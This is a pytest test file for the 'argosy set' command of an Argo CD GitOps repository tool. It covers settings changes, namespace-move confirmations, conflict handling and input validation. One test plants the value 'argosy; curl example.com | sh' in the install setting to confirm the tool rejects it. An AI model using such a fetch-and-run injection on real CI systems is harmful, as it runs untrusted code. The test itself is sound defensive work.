"""`argosy set`, as people meet it."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from argosy.repository.model import ArgocdStyle
from tests.changing import commit, create, edit, git, model, rendered, state
from tests.conftest import Argosy


@pytest.fixture
def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, argosy: Argosy) -> Path:
    """Return a small repository, which is where one is."""
    root = create(tmp_path / "gitops")
    monkeypatch.chdir(root)
    return root


def document(path: str) -> dict[str, object]:
    found: dict[str, object] = yaml.safe_load(Path(path).read_text())
    return found


def test_environment(argosy: Argosy, repository: Path) -> None:
    result = argosy(
        "set", "environment", "prod", "autoSync=false", "namespace=live", "cluster=east", "--commit", "--yes"
    )
    assert result.code == 0, result.out
    settings = document("environments/prod/environment.yaml")
    assert (settings["autoSync"], settings["namespace"], settings["destination"]) == (False, "live", {"name": "east"})
    spec = document("argocd/prod/web.yaml")["spec"]
    assert isinstance(spec, dict)
    assert "automated" not in spec["syncPolicy"]
    assert spec["destination"] == {"name": "east", "namespace": "live"}


def test_a_setting_that_somebody_wrote_in_another_way(argosy: Argosy, repository: Path) -> None:
    path = "environments/prod/environment.yaml"
    edit(repository, path, "replicas: ", "replicas:   ")
    commit(repository, {path: (repository / path).read_text() + "namespace: live # ours\n"})
    assert argosy("apply", "--since", "HEAD~", "--yes", "--commit", "--no-validate").code == 0
    assert (repository / path).read_text().count("namespace") == 1
    assert argosy("set", "env", "prod", "replicas=7", "namespace=", "--yes", "--commit").code == 0
    text = (repository / path).read_text()
    assert "replicas:   7" in text
    assert "namespace" not in text
    spec = document("argocd/prod/web.yaml")["spec"]
    assert isinstance(spec, dict)
    assert spec["destination"]["namespace"] == "web-prod"


class TestMoves:
    """What moves applications says what stays behind, and asks."""

    @pytest.mark.parametrize("setting", ["namespace=live", "cluster=east"])
    def test_it_asks(self, argosy: Argosy, repository: Path, setting: str) -> None:
        before = state(repository)
        refused = argosy("set", "environment", "prod", setting)
        assert (refused.code, state(repository)) == (2, before)
        assert (
            "This moves what is deployed, and there is no terminal to confirm it.\n  Confirm with --yes." in refused.err
        )
        dry = argosy("set", "environment", "prod", setting, "--dry-run")
        assert (dry.code, state(repository)) == (0, before)
        assert "  web-prod: web-prod" in dry.err

    @pytest.mark.usefixtures("repository")
    def test_what_stays_behind(self, argosy: Argosy) -> None:
        moved = argosy("set", "environment", "prod", "namespace=live", "--commit", "--yes").err
        assert "\n  web-prod: web-prod -> live\n" in moved
        assert "What web-prod ran before keeps running beside it, and belongs to no Application." in moved
        assert "\n  kubectl delete namespace web-prod    # in https://kubernetes.default.svc\n" in moved
        back = argosy("set", "environment", "prod", "namespace=", "--commit", "--yes", "--no-validate").err
        assert "\n  web-prod: live -> web-prod\n" in back
        assert "\n  kubectl delete namespace live    # in" in back
        east = argosy("set", "environment", "prod", "cluster=east", "--dry-run").err
        assert "\n  web-prod: web-prod in https://kubernetes.default.svc -> web-prod in east\n" in east

    @pytest.mark.usefixtures("repository")
    @pytest.mark.parametrize("kept", ["argocd", "kube-system"])  # The others: TestWhatRuns of test_remove.py.
    def test_what_a_cluster_cannot_do_without_is_not_to_be_deleted(self, argosy: Argosy, kept: str) -> None:
        moved = argosy("set", "environment", "prod", f"namespace={kept}", "--commit", "--yes", "--no-validate")
        assert moved.code == 0
        told = argosy("set", "environment", "prod", "namespace=", "--dry-run").err
        assert f"\n  web-prod: {kept} -> web-prod\n" in told
        assert "What web-prod ran before keeps running beside it" in told
        assert "kubectl delete namespace" not in told
        gone = argosy("remove", "app", "web", "--yes", "--dry-run").err
        assert "Argo CD lets go of web-dev, web-prod." in gone
        assert gone.count("kubectl delete namespace") == 1

    @pytest.mark.usefixtures("repository")
    def test_what_argo_cd_deletes(self, argosy: Argosy) -> None:
        moved = argosy("set", "environment", "prod", "namespace=team-prod", "--commit", "--yes", "--no-validate")
        assert moved.code == 0
        told = argosy("set", "environment", "prod", "namespace=", "--commit", "--yes").err
        # The project permits *-prod then.
        assert "What web-prod ran before, volumes included, Argo CD deletes: the AppProject goes on permitting" in told
        assert "keeps running" not in told
        assert "kubectl delete" not in told

    @pytest.mark.usefixtures("repository")
    def test_nobody_is_asked_where_nothing_moves(self, argosy: Argosy) -> None:
        assert argosy("set", "environment", "prod", "replicas=2", "cluster=in-cluster", "--commit").code == 0
        assert argosy("remove", "app", "web", "--yes", "--commit", "--no-validate").code == 0
        assert argosy("set", "environment", "prod", "namespace=live", "--commit").code == 0

    def test_after_an_edit_by_hand(self, argosy: Argosy, repository: Path) -> None:
        edit(repository, "environments/prod/environment.yaml", "replicas:", "namespace: live\nreplicas:")
        before = state(repository)
        refused = argosy("apply")
        assert (refused.code, state(repository)) == (2, before)
        assert "\n  web-prod: web-prod -> live\n" in refused.err
        assert argosy("apply", "--yes", "--commit").code == 0
        spec = document("argocd/prod/web.yaml")["spec"]
        assert isinstance(spec, dict)
        assert spec["destination"]["namespace"] == "live"


def test_what_people_wrote_beside_it_stays(argosy: Argosy, repository: Path) -> None:
    edit(
        repository,
        "argocd/prod/web.yaml",
        "    - CreateNamespace=true\n",
        "    - CreateNamespace=true\n      - Replace=true\n",
    )
    edit(repository, "environments/prod/environment.yaml", "# The settings", "# Ours: the settings")
    commit(repository)
    assert argosy("set", "environment", "prod", "revision=v1.2.0", "--quiet").code in {0, 1}
    assert "Replace=true" in Path("argocd/prod/web.yaml").read_text()
    assert 'targetRevision: "v1.2.0"' in Path("argocd/prod/web.yaml").read_text()
    assert "# Ours" in Path("environments/prod/environment.yaml").read_text()


def test_application(argosy: Argosy, repository: Path) -> None:
    assert argosy("set", "application", "web", "team=payments", "--commit", "--quiet").code == 0
    assert document("applications/web/application.yaml")["team"] == "payments"
    assert git(repository, "log", "-1", "--format=%s") == "Set team=payments of application web\n"


def test_repository(argosy: Argosy, repository: Path) -> None:
    arguments = ("repoURL=git@github.com:acme/moved.git", "argocd=applicationset")
    told = argosy("set", "repository", *arguments, "--commit")
    assert told.code == 0, told.err
    assert document(".copier-answers.yml")["repo_url"] == "git@github.com:acme/moved.git"
    assert "The ApplicationSet applications takes over the Applications that root has made" in told.err
    bootstrap = "Argo CD does not sync argocd/root.yaml: once this is merged, run argosy bootstrap again.\n"
    assert told.err.endswith(bootstrap)
    root = Path("argocd/root.yaml").read_text()
    wanted = rendered(model(argocd=ArgocdStyle.APPLICATIONSET))
    assert {each.name for each in Path("argocd").iterdir()} == {
        path.split("/")[1] for path in wanted if path.startswith("argocd/")
    }
    back = argosy("set", "repository", "argocd=applications", "--commit")
    assert back.code == 0, back.err
    assert Path("argocd/prod/web.yaml").is_file()
    assert "delete applicationset.argoproj.io applications --cascade=orphan\n" in back.err
    # What is not permitted is not pruned, and Argo CD does not sync the project itself.
    project, _ = yaml.safe_load_all(root)
    assert project["spec"]["namespaceResourceWhitelist"] == [
        {"group": "argoproj.io", "kind": kind} for kind in ("AppProject", "Application", "ApplicationSet")
    ]
    assert Path("argocd/root.yaml").read_text() == root
    assert bootstrap not in back.err


def test_follow_up(argosy: Argosy, repository: Path) -> None:
    workflow = Path(".github/workflows/follow-up.yaml")
    assert argosy("add", "env", "qa", "--after", "dev", "--commit", "--quiet", "--no-validate").code == 0
    assert argosy("set", "repository", "ci=github", "followUp=true", "--commit", "--quiet").code == 0
    assert document(".copier-answers.yml")["follow_up"] is True
    assert workflow.exists()
    refused = argosy("set", "repository", "ci=none")
    assert (refused.code, "Choose a CI host, or switch the follow-up off." in refused.err) == (2, True)
    assert argosy("set", "repository", "followUp=false", "--commit", "--quiet").code == 0
    assert document(".copier-answers.yml")["follow_up"] is False
    assert not workflow.exists()


def test_which_argosy_ci_installs(argosy: Argosy, repository: Path) -> None:
    missing = "CI's jobs fail until they know which argosy to install: argosy set repository argosyInstall="
    assert missing not in argosy("set", "repository", "kubernetesVersion=1.36", "--commit", "--no-validate").err
    assert missing in argosy("set", "repository", "ci=gitlab", "--commit", "--no-validate").err
    setting = f"argosy @ https://example.com/argosy-0.1.0-py3-none-any.whl#sha256={'0a' * 32}"
    result = argosy("set", "repository", f"argosyInstall={setting}", "--commit")
    assert (result.code, missing in result.err) == (0, False)
    assert document(".copier-answers.yml")["argosy_install"] == setting
    assert setting.replace(" @ ", "@") in Path(".gitlab-ci.yml").read_text()
    lock = argosy("set", "repository", "argosyInstall=./tools/argosy.txt", "--commit")
    assert (lock.code, "argosy is installed from tools/argosy.txt, which is not there" in lock.err) == (0, True)
    assert not Path("tools").exists()
    assert argosy("set", "repository", f"argosyInstall={setting}", "--commit", "--no-validate").code == 0
    assert Path("tools/argosy-dependencies.txt").exists()
    before = state(repository)
    refused = argosy("set", "repository", "argosyInstall=argosy")
    assert (refused.code, state(repository)) == (2, before)
    assert "“argosy” does not name one argosy alone" in refused.err
    assert "\n    PATH/argosy-VERSION-py3-none-any.whl (a file of the repository)\n" in refused.err
    edit(repository, ".copier-answers.yml", setting, "argosy; curl example.com | sh")
    broken = argosy("apply")
    assert (broken.code, ".copier-answers.yml: “argosy; curl" in broken.err) == (1, True)


def test_a_conflict_and_both_ways_out(argosy: Argosy, repository: Path) -> None:
    edit(
        repository,
        "argocd/prod/web.yaml",
        'server: "https://kubernetes.default.svc"',
        "server: https://ours.example.com",
    )
    commit(repository)
    before = state(repository)
    dry = argosy("set", "environment", "prod", "cluster=east", "--dry-run")
    assert (dry.code, state(repository)) == (3, before)

    result = argosy("set", "environment", "prod", "cluster=east", "--commit", "--yes")
    assert result.code == 3
    assert "\n  argocd/prod/web.yaml\n" in result.err
    assert "argosy abort" in result.err
    text = Path("argocd/prod/web.yaml").read_text()
    assert "<<<<<<< yours\n" in text
    assert "server: https://ours.example.com\n" in text
    assert ">>>>>>> template\n" in text
    assert "UU argocd/prod/web.yaml\n" in git(repository, "status", "--porcelain")
    for refused in (("add", "app", "shop"), ("update",)):
        again = argosy(*refused)
        assert again.code == 1
        assert "There are unresolved conflicts" in again.err
        assert "argosy abort" in again.err

    assert argosy("abort").code == 0
    assert state(repository) == before
    assert argosy("abort").code == 1

    assert argosy("set", "environment", "prod", "cluster=east", "--yes").code == 3
    Path("argocd/prod/web.yaml").write_text(text.replace("<<<<<<< yours\n", "").replace(">>>>>>> template\n", ""))
    edit(repository, "argocd/prod/web.yaml", "=======\n", "")
    edit(repository, "argocd/prod/web.yaml", "    server: https://ours.example.com\n", "")
    commit(repository)
    after = state(repository)
    result = argosy("abort")
    assert (result.code, state(repository)) == (1, after)
    assert argosy("add", "app", "shop", "--quiet").code == 0


def test_someone_elses_conflict(argosy: Argosy, repository: Path) -> None:
    git(repository, "switch", "--quiet", "--create", "other")
    commit(repository, {"notes.txt": "one\n"})
    git(repository, "switch", "--quiet", "main")
    commit(repository, {"notes.txt": "two\n"})
    with pytest.raises(Exception, match="merge"):
        git(repository, "merge", "other")
    before = state(repository)
    result = argosy("set", "environment", "prod", "replicas=2")
    assert (result.code, state(repository)) == (1, before)
    assert "git merge --abort" in result.err
    assert argosy("abort").code == 1
    assert state(repository) == before


def test_wrong_usage_changes_nothing(argosy: Argosy, repository: Path) -> None:
    before = state(repository)
    for arguments, message in (
        (("environment", "prod", "cluster="), "is not a cluster"),
        (("environment", "prod", "autoSync=maybe"), "It is false or true."),
        (("environment", "prod", "replicas=-1"), "It is a number."),
        (("environment", "prod", "promotesFrom=prod"), "circle"),
        (("environment", "dev", "promotesFrom=prod"), "circle"),
        (("environment", "dev", "promotesFrom=live"), "There is no environment “live”."),
        (("environment", "prod", "autosync=true"), "Did you mean “autoSync”?"),
        (("environment", "prod"), "KEY=VALUE"),
        (("environment", "autoSync=true"), "KEY=VALUE"),
        (("application", "web", "format=helm"), "argosy convert web --to helm"),
        (("application", "web", "name=shop"), "not a setting"),
        (("repository", "ci=jenkins"), "It is github or gitlab or bitbucket or none."),
        (("repository", "followUp=yes"), "followUp cannot be “yes”."),
        (("repository", "followUp=true"), "there is no CI"),
        (("repository", "repoURL=https://me:secret@github.com/acme/x.git"), "given with a password"),
        (("repository", "kubernetesVersion=1.20"), "older"),
        (("clutser", "x=y"), "Did you mean “cluster”?"),
    ):
        result = argosy("set", *arguments)
        assert (result.code, message in result.err) == (2, True), (arguments, result.err)
    assert state(repository) == before


def test_nothing_to_change(argosy: Argosy, repository: Path) -> None:
    result = argosy("set", "environment", "prod", "autoSync=true", "--commit")
    assert result.code == 0
    assert "Nothing to change" in result.err
    assert git(repository, "rev-list", "--count", "HEAD") == "1\n"
